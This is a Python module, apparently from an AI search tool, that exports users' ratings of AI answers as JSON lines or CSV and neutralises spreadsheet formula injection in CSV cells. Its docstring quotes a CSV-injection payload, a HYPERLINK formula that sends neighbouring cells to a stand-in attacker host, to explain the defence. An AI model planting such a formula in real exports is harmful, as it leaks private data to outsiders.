"""``ai-search feedback export``: the ratings people gave answers, for an admin to learn from.

One record per rating (the latest a person gave an answer), oldest first, with the answer it rates:
who rated, up or down, their reason, the question, what a follow-up searched, the answer's text, the
provider and model, and the ids of the sources it was numbered over. JSON lines (one object per
line, UTF-8) or CSV (a header row, RFC 4180 quoting; source ids space-separated).

The CSV is made to be opened in a spreadsheet, and its cells hold what people typed (a rater's
reason, a question) beside answer texts drawn from private rooms. A cell that starts with one of
``FORMULA_TRIGGERS`` (``= + - @``, tab, carriage return) would run as a formula there
(``=HYPERLINK("https://evil.example/?leak="&G2&E3, "Details")`` sends its neighbours off-site when
clicked), so such a cell gets a leading ``'``, which spreadsheets read as "this is text" (OWASP, "CSV
Injection"). Every column is text (ids, ISO times, up/down, free text: none is a number), so the rule
holds for every cell, ``-5`` included; a cell that starts otherwise is written as it is. The JSON
lines keep every value raw: they are data for programs, not a sheet.

The export runs on the server's machine against its database, so it holds the answers' texts: treat
the file like the workspace itself.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable
from datetime import UTC, date, datetime, time
from typing import Any, Literal, TextIO

from ai_search import to_iso_timestamp

from ..store.base import Store
from ..store.records import AnswerFeedback, StoredAnswer

__all__ = [
    "EXPORT_FIELDS",
    "FORMULA_TRIGGERS",
    "TEXT_MARK",
    "ExportFormat",
    "csv_cell",
    "csv_row",
    "export_feedback",
    "parse_since",
]

ExportFormat = Literal["jsonl", "csv"]
EXPORT_FIELDS = (
    "answerId",
    "ratedAt",
    "firstRatedAt",
    "username",
    "rating",
    "reason",
    "query",
    "searched",
    "answer",
    "answeredAt",
    "provider",
    "model",
    "sources",
)
# First characters that make a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection"): a
# tab or a carriage return is where Excel looks past to find one of the others.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What goes before such a cell so that it is read as text: shown by no spreadsheet, kept in the value.
TEXT_MARK = "'"


def parse_since(value: str) -> datetime:
    """``YYYY-MM-DD`` (midnight UTC) or an ISO date-time (UTC when it names no zone).

    Raises:
        ValueError: neither.
    """
    text = value.strip()
    if len(text) == 10:
        return datetime.combine(date.fromisoformat(text), time(), UTC)
    moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    return moment if moment.tzinfo is not None else moment.replace(tzinfo=UTC)


def csv_cell(value: str) -> str:
    """``value`` as a CSV cell that a spreadsheet shows as text: with TEXT_MARK before it when it
    starts with one of FORMULA_TRIGGERS, else unchanged."""
    return TEXT_MARK + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_row(record: dict[str, Any]) -> dict[str, str]:
    """One CSV row: no follow-up search is an empty cell, the source ids are space-separated, and
    every cell is neutralised (``csv_cell``)."""
    flat = {**record, "searched": record["searched"] or "", "sources": " ".join(record["sources"])}
    return {name: csv_cell(str(flat[name])) for name in EXPORT_FIELDS}


def _record(feedback: AnswerFeedback, answer: StoredAnswer, username: str) -> dict[str, Any]:
    return {
        "answerId": answer.id,
        "ratedAt": to_iso_timestamp(feedback.updated_at),
        "firstRatedAt": to_iso_timestamp(feedback.created_at),
        "username": username,
        "rating": feedback.rating,
        "reason": feedback.reason,
        "query": answer.query,
        "searched": answer.searched,
        "answer": answer.answer,
        "answeredAt": to_iso_timestamp(answer.created_at),
        "provider": answer.provider.get("name", ""),
        "model": answer.provider.get("model", ""),
        "sources": [source.msg_id for source in answer.sources],
    }


def _records(store: Store, since: datetime | None) -> Iterable[dict[str, Any]]:
    for feedback, answer, username in store.feedback_since(since):
        yield _record(feedback, answer, username)


def export_feedback(store: Store, out: TextIO, *, since: datetime | None, fmt: ExportFormat) -> int:
    """Write every rating given or changed from ``since`` on to ``out``; the number written."""
    count = 0
    if fmt == "jsonl":
        for record in _records(store, since):
            out.write(json.dumps(record, ensure_ascii=False) + "\n")
            count += 1
        return count
    writer = csv.DictWriter(out, fieldnames=EXPORT_FIELDS, lineterminator="\r\n")
    writer.writeheader()
    for record in _records(store, since):
        writer.writerow(csv_row(record))
        count += 1
    return count
